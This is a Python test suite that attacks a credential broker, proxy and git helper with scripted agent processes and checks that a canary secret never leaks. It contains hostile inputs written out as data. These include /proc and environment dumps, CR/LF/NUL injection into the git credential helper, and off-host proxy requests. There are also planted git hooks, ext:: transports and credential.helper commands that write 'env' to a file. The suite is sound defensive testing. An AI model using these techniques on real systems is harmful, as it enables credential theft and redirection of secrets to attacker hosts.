"""Attacks on the broker, proxy and git helper, each run by a real agent process.

Every test uses a fresh canary secret and searches everything the attacker
could see or leave behind (its stdout and stderr, files it wrote, what other
hosts received, the audit events) in plain, base64, hex, URL and JSON forms.
Every refusal must show up as an event.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from outloop_cli.config.model import CredentialConfig
from outloop_cli.process.environment import build_env
from tests.fakes.git_http_server import GitHttpServer
from tests.fakes.upstream_server import UpstreamServer
from tests.support.credentials import Events, assert_no_leak, canary, proxy_cred, started_broker

PRELUDE = """
import base64, json, os, socket, subprocess, sys, urllib.parse, urllib.request
def get(url, headers=None, method="GET", data=None):
    req = urllib.request.Request(url, headers=headers or {}, method=method, data=data)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read().decode("utf-8", "replace"), dict(r.headers)
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode("utf-8", "replace"), dict(e.headers)
def raw(port, data):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(data); out = s.recv(65536); s.close(); return out.decode("latin-1")
def helper(op, stdin):
    done = subprocess.run([sys.executable, "-I", "-m", "outloop_cli", "credential", op],
                          input=stdin, capture_output=True)
    return done.stdout.decode("latin-1"), done.stderr.decode("latin-1")
"""


class Agent:
    """Runs attack scripts as the agent would run: own process, allow-listed environment."""

    def __init__(self, workdir: Path) -> None:
        self.workdir = workdir
        self.outputs: list[str] = []

    def run(self, script: str, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
        path = self.workdir / f"attack{len(self.outputs)}.py"
        path.write_text(PRELUDE + textwrap.dedent(script))
        agent_env = build_env(extra=env.items())
        done = subprocess.run(
            [sys.executable, str(path), *args],
            cwd=self.workdir,
            env=agent_env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        self.outputs += [done.stdout, done.stderr]
        return done

    def sinks(self) -> list[str]:
        files = [
            p.read_text(errors="replace")
            for p in self.workdir.rglob("*")
            if p.is_file() and ".git" not in p.parts
        ]
        return self.outputs + files


@pytest.fixture
def agent(tmp_path: Path) -> Agent:
    workdir = tmp_path / "worktree"
    workdir.mkdir()
    return Agent(workdir)


@pytest.fixture
def upstream() -> Iterator[UpstreamServer]:
    with UpstreamServer() as server:
        yield server


@pytest.fixture
def evil() -> Iterator[UpstreamServer]:
    """Another host, that must never see a key."""
    with UpstreamServer() as server:
        yield server


def no_leak(key: str, agent: Agent, events: Events, *more: str) -> None:
    assert_no_leak(key, *agent.sinks(), *more, where="agent output or files")
    assert_no_leak(key, events.dump(), where="audit events")


def seen_by(server: UpstreamServer) -> str:
    return json.dumps([r.__dict__ for r in server.requests], default=str)


# --- the environment and the process table -------------------------------------------


def test_attack_dump_env_and_proc(agent: Agent, upstream: UpstreamServer) -> None:
    key, events = canary(), Events()
    cred = proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL")
    with started_broker({"openai": key}, [cred], events) as broker:
        done = agent.run(
            """
            print(dict(os.environ))
            for pid in ("self", str(os.getppid())):
                for f in ("environ", "cmdline"):
                    try:
                        print(pid, f, open(f"/proc/{pid}/{f}", "rb").read())
                    except OSError as e:
                        print(pid, f, e)
            open("env-dump.txt", "w").write(json.dumps(dict(os.environ)))
            """,
            broker.agent_env(),
        )
    assert done.returncode == 0, done.stderr
    assert "outloop-proxy" in done.stdout
    no_leak(key, agent, events)


# --- captured capabilities -----------------------------------------------------------


REUSE = """
saved = json.load(open("captured.json"))
base = saved["OPENAI_BASE_URL"]
print("proxy", get(base + "/echo")[0])
os.environ.update(saved)
print("helper", helper("get", b"protocol=http\\nhost=" + sys.argv[1].encode() + b"\\n\\n"))
done = subprocess.run([sys.executable, "-m", "outloop_cli", "credential", "token", "tool"],
                      capture_output=True, text=True)
print("token", done.returncode, done.stdout, done.stderr)
"""


@pytest.mark.parametrize("how", ["revoked", "expired"])
def test_attack_reuse_a_captured_capability(
    agent: Agent, upstream: UpstreamServer, tmp_path: Path, how: str
) -> None:
    key, events = canary(), Events()
    creds = [
        proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL"),
        CredentialConfig(name="tool", via="helper"),
        CredentialConfig(name="forge", via="git", host="127.0.0.1:9"),
    ]
    secrets = {"openai": key, "tool": key, "forge": key}
    with started_broker(secrets, creds, events, ttl=60) as broker:
        agent.run(
            'open("captured.json", "w").write(json.dumps(dict(os.environ)))', broker.agent_env()
        )
        if how == "revoked":
            broker.revoke()
        else:
            broker.renew(0.2)
            time.sleep(0.4)
        done = agent.run(REUSE, {}, "127.0.0.1:9")
    assert "proxy 403" in done.stdout
    assert "quit=1" in done.stdout
    assert "token 3" in done.stdout
    assert upstream.requests == []
    assert events.reasons() == [f"capability_{how}"] * 3
    no_leak(key, agent, events)


# --- other names, hosts and routes ---------------------------------------------------


def test_attack_ask_for_a_credential_the_run_was_not_given(
    agent: Agent, upstream: UpstreamServer
) -> None:
    """Another workspace's secret never reaches this broker; asking by every route is refused."""
    key, events = canary(), Events()
    creds = [
        proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL"),
        CredentialConfig(name="tool", via="helper"),
    ]
    with started_broker({"openai": key, "tool": canary()}, creds, events) as broker:
        done = agent.run(
            """
            base = os.environ["OPENAI_BASE_URL"]
            cap = base.rsplit("/", 2)[1]
            root = base.rsplit("/", 2)[0]
            print("other route", get(f"{root}/{cap}/crm/echo")[0])
            print("guessed cap", get(f"{root}/{'A' * 43}/openai/echo")[0])
            print("helper cap as route", get(f"{root}/{os.environ['OUTLOOP_CAPABILITY']}/openai/echo")[0])
            print("other host", helper("get", b"protocol=https\\nhost=client-b.example\\n\\n"))
            for name in ("crm", "openai", "../openai"):
                done = subprocess.run([sys.executable, "-m", "outloop_cli", "credential", "token", name],
                                      capture_output=True, text=True)
                print("token", name, done.returncode, done.stdout)
            # the proxy's capability used on the helper socket
            s = socket.socket(socket.AF_UNIX); s.connect(os.environ["OUTLOOP_BROKER_SOCKET"])
            s.sendall(json.dumps({"v": 1, "op": "token", "capability": cap, "name": "openai"}).encode() + b"\\n")
            print("proxy cap on socket", s.recv(1000))
            """,
            broker.agent_env(),
        )
    assert done.returncode == 0, done.stderr
    assert "other route 403" in done.stdout
    assert "guessed cap 403" in done.stdout
    assert "helper cap as route 403" in done.stdout
    assert "quit=1" in done.stdout
    assert done.stdout.count(" 3 \n") == 3
    assert upstream.requests == []
    assert events.reasons() == [
        "credential_not_in_scope",
        "capability_unknown",
        "capability_wrong_purpose",
        "host_not_allowed",
        # crm, openai (a proxy credential: not in the helper's scope), ../openai
        "credential_not_in_scope",
        "credential_not_in_scope",
        "credential_not_in_scope",
        "capability_wrong_purpose",
    ]
    no_leak(key, agent, events)


# --- the proxy -------------------------------------------------------------------------


def test_attack_send_own_authorization_and_read_the_echo(
    agent: Agent, upstream: UpstreamServer
) -> None:
    key, events = canary(), Events()
    cred = proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL")
    with started_broker({"openai": key}, [cred], events) as broker:
        done = agent.run(
            """
            base = os.environ["OPENAI_BASE_URL"]
            for h in ({"Authorization": "Bearer mine"}, {"X-Api-Key": "mine"},
                      {"Proxy-Authorization": "Basic bWluZQ=="}, {"Authorization": "Basic bWluZQ=="}):
                status, body, headers = get(base + "/echo", h)
                print(status, body, headers)
            status, body, headers = get(base + "/leak")
            print(status, body, headers)
            status, body, headers = get(base + "/gzip")
            print(status, body)
            """,
            broker.agent_env(),
        )
    assert done.returncode == 0, done.stderr
    assert "mine" not in seen_by(upstream).replace('"Bearer mine"', "")
    assert all(r.headers["Authorization"] == f"Bearer {key}" for r in upstream.requests)
    assert "500" in done.stdout and "***" in done.stdout
    no_leak(key, agent, events)


def test_attack_absolute_uri_and_connect_to_another_host(
    agent: Agent, upstream: UpstreamServer, evil: UpstreamServer
) -> None:
    key, events = canary(), Events()
    cred = proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL")
    with started_broker({"openai": key}, [cred], events) as broker:
        done = agent.run(
            """
            port = int(os.environ["OPENAI_BASE_URL"].split(":")[2].split("/")[0])
            cap_path = "/" + os.environ["OPENAI_BASE_URL"].split("/", 3)[3]
            evil = sys.argv[1]
            print(raw(port, f"GET {evil}/echo HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()))
            print(raw(port, f"GET {evil}{cap_path}/echo HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()))
            print(raw(port, f"CONNECT {evil[7:]} HTTP/1.1\\r\\nHost: {evil[7:]}\\r\\n\\r\\n".encode()))
            print(raw(port, f"GET //{evil[7:]}/echo HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()))
            # a proxy-aware client pointed at it
            proxied = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{port}"}))
            try:
                proxied.open(evil + "/echo", timeout=5)
            except Exception as e:
                print("proxy handler", e)
            """,
            broker.agent_env(),
            evil.url,
        )
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("HTTP/1.1 400") == 3
    assert "proxy handler HTTP Error 400" in done.stdout
    assert done.stdout.count("HTTP/1.1 405") == 1
    assert evil.requests == [] and upstream.requests == []
    assert events.reasons() == [
        "absolute_uri_refused",
        "absolute_uri_refused",
        "connect_refused",
        "absolute_uri_refused",
        "absolute_uri_refused",
    ]
    no_leak(key, agent, events, seen_by(evil))


def test_attack_upstream_redirects_off_host(
    agent: Agent, upstream: UpstreamServer, evil: UpstreamServer
) -> None:
    key, events = canary(), Events()
    cred = proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL")
    with started_broker({"openai": key}, [cred], events) as broker:
        done = agent.run(
            """
            target = urllib.parse.quote(sys.argv[1] + "/echo", safe="")
            # urllib follows redirects, as many clients do
            print(get(os.environ["OPENAI_BASE_URL"] + "/redirect?to=" + target))
            """,
            broker.agent_env(),
            evil.url,
        )
    assert done.returncode == 0, done.stderr
    # the proxy did not follow; the agent's client did, and carried only its sentinel
    assert len(upstream.requests) == 1
    assert [r.path for r in evil.requests] == ["/echo"]
    [event] = events.named("proxy_request")
    assert event["redirect"] == "off_upstream" and event["status"] == 302
    no_leak(key, agent, events, seen_by(evil))


# --- the git helper --------------------------------------------------------------------


@pytest.fixture
def token() -> str:
    return canary().replace("/", "_").replace("+", "-").replace("=", "")


@pytest.fixture
def hosts(tmp_path: Path, token: str) -> Iterator[tuple[GitHttpServer, GitHttpServer]]:
    with (
        GitHttpServer(tmp_path / "good", token) as good,
        GitHttpServer(tmp_path / "evil", "evil-never-matches") as bad,
    ):
        good.create("team/repo.git")
        bad.create("team/repo.git")
        yield good, bad


def init_repo(path: Path) -> None:
    for args in (
        ["init", "-q", "-b", "main"],
        ["commit", "-q", "--allow-empty", "-m", "start"],
    ):
        subprocess.run(["git", *args], cwd=path, check=True, capture_output=True)


def test_attack_cr_lf_nul_injection_into_the_helper(
    agent: Agent, hosts: tuple[GitHttpServer, GitHttpServer], token: str
) -> None:
    good, _ = hosts
    events = Events()
    cred = CredentialConfig(name="forge", via="git", host=good.host)
    with started_broker({"forge": token}, [cred], events) as broker:
        done = agent.run(
            """
            good = sys.argv[1]
            for stdin in (
                b"protocol=http\\nhost=evil.example\\rhost=" + good.encode() + b"\\n\\n",
                b"protocol=http\\nhost=" + good.encode() + b"\\0evil\\n\\n",
                b"protocol=http\\nhost=evil.example\\nhost=" + good.encode() + b"\\n\\n",
                b"protocol=http\\r\\nhost=" + good.encode() + b"\\r\\n\\r\\n",
                b"protocol=http\\nhost=" + good.encode() + b"%0d%0ahost=evil\\n\\n",
            ):
                print(repr(stdin), helper("get", stdin))
            """,
            broker.agent_env(),
            good.host,
        )
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("quit=1") == 5
    assert events.reasons() == ["malformed_request"] * 4 + ["host_not_allowed"]
    no_leak(token, agent, events)


def test_attack_insteadof_and_lfsconfig_aim_credentials_at_another_host(
    agent: Agent, hosts: tuple[GitHttpServer, GitHttpServer], token: str
) -> None:
    good, bad = hosts
    events = Events()
    init_repo(agent.workdir)
    cred = CredentialConfig(name="forge", via="git", host=good.host)
    with started_broker({"forge": token}, [cred], events) as broker:
        done = agent.run(
            """
            good, bad = sys.argv[1], sys.argv[2]
            def git(*args, stdin=None):
                d = subprocess.run(["git", *args], capture_output=True, text=True, input=stdin)
                print("git", args[0], d.returncode, d.stdout, d.stderr)
                return d
            # the repo's own config sends pushes for the good host elsewhere
            git("config", f"url.{bad}/.insteadOf", f"{good}/")
            git("push", f"{good}/team/repo.git", "main")
            git("config", "--unset", f"url.{bad}/.insteadOf")
            # a committed .lfsconfig names another LFS server; git-lfs asks
            # `git credential fill` for that URL, exactly like this
            open(".lfsconfig", "w").write(f"[lfs]\\n\\turl = {bad}/team/repo.git/info/lfs\\n")
            lfs_url = git("config", "-f", ".lfsconfig", "lfs.url").stdout.strip()
            git("credential", "fill", stdin=f"url={lfs_url}\\n\\n")
            # a host with the good one as a prefix, and the good host with another port
            git("credential", "fill", stdin=f"url=http://{sys.argv[3]}.evil.example/x\\n\\n")
            git("credential", "fill", stdin=f"url=http://{sys.argv[3]}:1/x\\n\\n")
            """,
            broker.agent_env(),
            f"http://{good.host}",
            f"http://{bad.host}",
            "127.0.0.1",
        )
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("told us to quit") == 4, done.stdout
    # the evil host asked for auth and got none of ours
    assert bad.requests and all(r.authorization is None for r in bad.requests)
    assert good.requests == []
    assert events.reasons() == ["host_not_allowed"] * 4
    no_leak(token, agent, events, json.dumps([r.__dict__ for r in bad.requests]))


def test_attack_proxy_only_agent_gets_no_git_credential(
    agent: Agent, hosts: tuple[GitHttpServer, GitHttpServer], token: str, upstream: UpstreamServer
) -> None:
    good, _ = hosts
    events = Events()
    init_repo(agent.workdir)
    # the run holds the forge token for outloop's own push, not for the agent
    with started_broker(
        {"forge": token, "openai": canary()},
        [proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL")],
        events,
        push_credentials=[CredentialConfig(name="forge", via="git", host=good.host)],
    ) as broker:
        done = agent.run(
            """
            d = subprocess.run(["git", "push", sys.argv[1], "main"], capture_output=True, text=True)
            print(d.returncode, d.stderr)
            d = subprocess.run(["git", "credential", "fill"], capture_output=True, text=True,
                               input=f"url={sys.argv[1]}\\n\\n")
            print(d.returncode, d.stdout, d.stderr)
            print(helper("get", f"url={sys.argv[1]}\\n\\n".encode()))
            """,
            {**broker.agent_env(), "GIT_TERMINAL_PROMPT": "0"},
            good.url_for("team/repo.git"),
        )
    assert done.returncode == 0
    assert all(not r.authorized for r in good.requests)
    no_leak(token, agent, events)


def test_attack_planted_hooks_and_transports_do_not_run_during_outloops_push(
    agent: Agent, hosts: tuple[GitHttpServer, GitHttpServer], token: str, tmp_path: Path
) -> None:
    good, _ = hosts
    events = Events()
    init_repo(agent.workdir)
    stolen = tmp_path / "stolen.txt"
    hook = agent.workdir / ".git" / "hooks" / "pre-push"
    hook.write_text(f"#!/bin/sh\nenv > {stolen}\n")
    hook.chmod(0o755)
    for args in (
        ["config", "protocol.ext.allow", "always"],
        ["config", f"url.ext::sh -c env>{stolen}% .insteadOf", "https://mirror.example/"],
        ["config", "credential.helper", f"!env > {stolen}; true"],
        ["config", f"credential.http://{good.host}.helper", f"!env > {stolen}; true"],
    ):
        subprocess.run(["git", *args], cwd=agent.workdir, check=True)
    push_only = CredentialConfig(name="forge", via="git", host=good.host)
    with started_broker({"forge": token}, [], events, push_credentials=[push_only]) as broker:
        env = {**os.environ, **broker.push_env(good.url_for("team/repo.git"))}
        pushed = subprocess.run(
            ["git", "push", good.url_for("team/repo.git"), "main"],
            cwd=agent.workdir,
            env=env,
            capture_output=True,
            text=True,
        )
        mirror = subprocess.run(
            ["git", "push", "https://mirror.example/x.git", "main"],
            cwd=agent.workdir,
            env=env,
            capture_output=True,
            text=True,
        )
    assert pushed.returncode == 0, pushed.stderr
    assert mirror.returncode != 0
    assert not stolen.exists()
    no_leak(token, agent, events, pushed.stderr, mirror.stderr)


def test_attack_ps_and_proc_scan_while_credentials_are_in_use(
    agent: Agent, hosts: tuple[GitHttpServer, GitHttpServer], token: str, upstream: UpstreamServer
) -> None:
    """Every process's argv and environment, read again and again while git pushes and the
    proxy is used: the secret is in none of them (the broker holds it in memory only)."""
    good, _ = hosts
    events = Events()
    init_repo(agent.workdir)
    creds = [
        CredentialConfig(name="forge", via="git", host=good.host),
        proxy_cred("openai", upstream.url, env="OPENAI_BASE_URL"),
    ]
    with started_broker({"forge": token, "openai": token}, creds, events) as broker:
        # nothing on disk but the sockets (the proxy's, for a sandboxed agent; its handoff
        # sockets are made for each sandbox's start)
        run_dir = broker.socket_path.parent
        assert sorted(p.name for p in run_dir.iterdir()) == ["broker.sock", "proxy.sock"]
        assert all(p.is_socket() for p in run_dir.iterdir())
        done = agent.run(
            """
            import threading, glob
            seen = []
            stop = threading.Event()
            def scan():
                while not stop.is_set():
                    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
                        try:
                            seen.append(open(path, "rb").read())
                        except OSError:
                            pass
            t = threading.Thread(target=scan); t.start()
            for n in range(2):
                subprocess.run(["git", "push", sys.argv[1], f"main:refs/heads/b{n}"], capture_output=True)
                get(os.environ["OPENAI_BASE_URL"] + "/echo")
            stop.set(); t.join()
            import shutil
            # ps reads the same /proc files; run it too where procps is installed
            ps = subprocess.run(["ps", "auxeww"], capture_output=True, text=True).stdout if shutil.which("ps") else ""
            open("proc-scan.bin", "wb").write(b"\\n".join(seen) + ps.encode())
            print("scanned", len(seen))
            """,
            broker.agent_env(),
            good.url_for("team/repo.git"),
        )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout.split()[-1]) > 0
    scan = (agent.workdir / "proc-scan.bin").read_bytes()
    assert_no_leak(token, scan, where="/proc and ps")
    assert [g["host"] for g in events.named("credential_granted")] == [good.host] * 2
    no_leak(token, agent, events)
